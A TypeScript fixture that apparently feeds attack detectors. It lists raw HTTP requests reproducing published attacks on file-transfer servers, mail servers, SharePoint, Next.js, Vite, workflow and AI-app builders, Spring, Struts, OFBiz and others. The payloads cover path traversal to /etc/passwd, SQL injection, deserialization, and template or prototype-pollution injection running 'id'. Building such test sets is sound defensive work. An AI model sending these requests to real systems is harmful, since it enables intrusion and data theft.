// The fifth set of attacks, whole requests: published attacks on servers, frameworks and tools of 2023 to 2026. Written before its
// author had read the detectors. What they call is harmless.
import type { Family } from "../contract.ts"
import { form, get, json, message, parts, post } from "../raw.ts"
import { rowsOf } from "../rows.ts"

const SOAP = "text/xml; charset=utf-8"

export const FIFTH_SERVERS: readonly Family[] = [
    {
        name: "servers, fifth",
        rows: [
            ...rowsOf(
                "request",
                "files that are moved",
                get("/WebInterface/function/?command=zip&c2f=AAAA&path=<INCLUDE>sessions.obj</INCLUDE>&names=/a"),
                message(
                    "POST",
                    "/Synchronization",
                    [
                        "VLSync: Retrieve;l=Ab1234-RQ0258;n=VLTrader;v=5.7.0.0;a=1;po=1;s=True;b=False;pp=1;path=..\\..\\windows\\win.ini",
                    ],
                    "",
                ),
                message(
                    "POST",
                    "/Synchronization",
                    [
                        "VLSync: ADD;l=Ab1234;path=webserver\\AjaxSwing\\conf\\..\\..\\..\\autorun\\a.txt",
                        "Content-Type: text/xml",
                    ],
                    '<Host alias="a" type="Commands"><Action actiontype="Commands" alias="a"><Commands>SYSTEM cmd.exe /c "ping x.example"</Commands></Action></Host>',
                ),
                post(
                    "/human.aspx",
                    "application/x-www-form-urlencoded",
                    "transaction=secmsgpost&Arg01=email_subject&Arg05=endpostmsg&Arg12=promptaccesscode&csrftoken=a",
                    "X-siLock-SessVar0: MyPkgSelfProvisionedRecips: a@x.example'); INSERT INTO activesessions (SessionID) values ('a');--",
                ),
                get(
                    "/serv-u/?InternalDir=/../../../../ProgramData/RhinoSoft/Serv-U/&InternalFile=Serv-U-StartupLog.txt",
                ),
                get("/?InternalDir=\\..\\..\\..\\..\\etc&InternalFile=passwd"),
                json("/api/v1/gladinet/storage/t.dn?s=..\\..\\..\\Web.config", {}),
                post(
                    "/_layouts/15/ToolPane.aspx?DisplayMode=Edit&a=/ToolPane.aspx",
                    "application/x-www-form-urlencoded",
                    "MSOTlPn_Uri=http://www.example.jp&MSOTlPn_DWP=<%25@+Register+Tagprefix%3d%22Scorecard%22+Namespace%3d%22Microsoft.PerformancePoint.Scorecards%22+Assembly%3d%22Microsoft.PerformancePoint.Scorecards.Client%22+%25><Scorecard:ExcelDataSet+CompressedDataTable%3d%22H4sIAAAAAAAEAO29B2AcSZYlJi9tynt%22+DataTable-CaseSensitive%3d%22false%22+runat%3d%22server%22/>",
                    "Referer: /_layouts/SignOut.aspx",
                ),
                post(
                    "/soap",
                    SOAP,
                    '<soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope"><soap:Body><CreateWaitSetRequest xmlns="urn:zimbraMail"><a id="1\' union select 1,2--"/></CreateWaitSetRequest></soap:Body></soap:Envelope>',
                ),
                get(
                    "/h/autoSaveDraft?msg=a&st=conversation&a=%22%3E%3Cscript%3Eeval(atob(%27YWxlcnQoMSk%27))%3C%2Fscript%3E",
                ),
                form(
                    "/?_task=settings&_action=upload&_from=edit-!xxx&_id=a",
                    '_file[]=x|O:16:"Crypt_GPG_Engine":1:{S:26:"\\00Crypt_GPG_Engine\\00_gpgconf";S:3:"id;";}!',
                ),
                parts("/?_task=settings&_remote=1&_from=edit-!1&_id=1&_action=upload", [
                    'name="_file[]"; filename="x|O:16:\\"Crypt_GPG_Engine\\":1:{S:1:\\"a\\";S:2:\\"id\\";}"',
                    "a",
                ]),
            ),
            ...rowsOf(
                "request",
                "frameworks and tools",
                message(
                    "POST",
                    "/",
                    ["Next-Action: x", `Content-Type: multipart/form-data; boundary=b`],
                    '--b\r\nContent-Disposition: form-data; name="0"\r\n\r\n{"then":"$1:__proto__:then","status":"resolved_model","reason":-1,"value":"{\\"then\\":\\"$B1337\\"}","_response":{"_prefix":"process.mainModule.require(\'child_process\').execSync(\'id\');","_formData":{"get":"$1:constructor:constructor"}}}\r\n--b\r\nContent-Disposition: form-data; name="1"\r\n\r\n"$@0"\r\n--b--\r\n',
                ),
                get(
                    "/dashboard",
                    "x-middleware-subrequest: src/middleware:src/middleware:src/middleware:src/middleware:src/middleware",
                ),
                get("/@fs/x/x/x/vite/../../../../../etc/passwd?import&?inline=1.wasm?init"),
                get("/__nuxt_vite_node__/module/@fs/proc/self/environ?raw??"),
                post(
                    "/setup/setupadministrator.action?bootstrapStatusProvider.applicationConfig.setupComplete=false",
                    "application/x-www-form-urlencoded",
                    "username=a&password=a",
                    "X-Atlassian-Token: no-check",
                ),
                json("/rest/workflow/1/run", {
                    expression:
                        "={{ $jmespath({}, '').constructor.constructor('return process')().mainModule.require('child_process').execSync('id') }}",
                }),
                json("/api/v1/node-load-method/customMCP", {
                    loadMethod: "listActions",
                    inputs: {
                        mcpServerConfig:
                            '({x:(function(){return process.mainModule.require("child_process").execSync("id")})()})',
                    },
                }),
                json("/api/v1/build_public_tmp/1/flow", {
                    data: { nodes: [{ code: "def f(a=__import__('os').system('id')): pass" }] },
                }),
                json("/v1/models", { model: "a", trust_remote_code: "__import__('subprocess').getoutput('id')" }),
                post(
                    "/xwiki/bin/get/Main/SolrSearch?media=rss&text=%7D%7D%7D%7B%7Basync%20async%3Dfalse%7D%7D%7B%7Bgroovy%7D%7Dprintln(%22a%22%20%2B%20%22b%22)%7B%7B%2Fgroovy%7D%7D%7B%7B%2Fasync%7D%7D",
                    "text/plain",
                    "",
                ),
                form(
                    "/users/password",
                    "user[email][]=rei@example.jp&user[email][]=a@x.example&authenticity_token=0a1b",
                ),
                json("/api/graphql", {
                    query: 'mutation{importCreate(input:{url:"http://127.0.0.1:9121/\\r\\nmulti\\r\\nsadd resque:gitlab:queues system_hook_push"}){id}}',
                }),
                json("/graphql", {
                    query: "query($id:ID!){user(id:$id){email}}",
                    variables: { id: "1' UNION SELECT password FROM users-- -" },
                }),
                get("/actuator/gateway/routes/a%2f..%2f..%2fenv;.css"),
                json("/actuator/env", {
                    name: "spring.datasource.hikari.connection-init-sql",
                    value: "CREATE ALIAS A AS 'void a() throws Exception{ Runtime.getRuntime().exec(\"id\"); }'",
                }),
                parts(
                    "/upload.action",
                    ['name="Upload"; filename="a.txt"', "<% out.print(1); %>"],
                    ['name="top.UploadFileName"', "../../a.jsp"],
                ),
                message(
                    "PUT",
                    "/x/session",
                    ["Content-Range: bytes 0-5/10", "Content-Type: application/octet-stream"],
                    "\u00ac\u00ed\u0000\u0005sr\u0000\u0017java.util.PriorityQueue",
                ),
                get("/a.jsp;.css?cmd=Runtime.getRuntime().exec(%22id%22)"),
                json("/json/setup-restore.action", { a: "${T(java.lang.Runtime).getRuntime().exec('id')}" }),
                form(
                    "/webtools/control/forgotPassword/ProgramExport",
                    "groovyProgram=throw+new+Exception('id'.execute().text);",
                ),
                form(
                    "/webtools/control/forgotPassword/ProgramExport",
                    "groovyProgram=\\u0074\\u0068\\u0072\\u006f\\u0077\\u0020\\u006e\\u0065\\u0077\\u0020\\u0045\\u0078\\u0063\\u0065\\u0070\\u0074\\u0069\\u006f\\u006e\\u0028\\u0027\\u0069\\u0064\\u0027\\u002e\\u0065\\u0078\\u0065\\u0063\\u0075\\u0074\\u0065\\u0028\\u0029\\u002e\\u0074\\u0065\\u0078\\u0074\\u0029",
                ),
                get(
                    "/geoserver/wfs?request=GetPropertyValue&service=wfs&typeNames=sf:archsites&valueReference=exec(java.lang.Runtime.getRuntime(),'touch%20/tmp/a')&version=2.0.0",
                ),
                get("/cacti/cmd_realtime.php?1+1&&calc.exe+1+1+1"),
                post(
                    "/zabbix/api_jsonrpc.php",
                    "application/json-rpc",
                    '{"jsonrpc":"2.0","method":"user.get","params":{"selectRole":["roleid, u.passwd"],"userids":"1"},"id":1}',
                ),
                get("/solr/%3a/admin/info/key?_=../../../../etc/passwd%00:/admin/info/key"),
                form("/login", "username=admin&password=a&lang=../../../../../../tmp/sess_a%00"),
                get("/index.php?option=com_ajax&format=json&template=../../../../../../../etc/passwd%00"),
            ),
        ],
    },
]
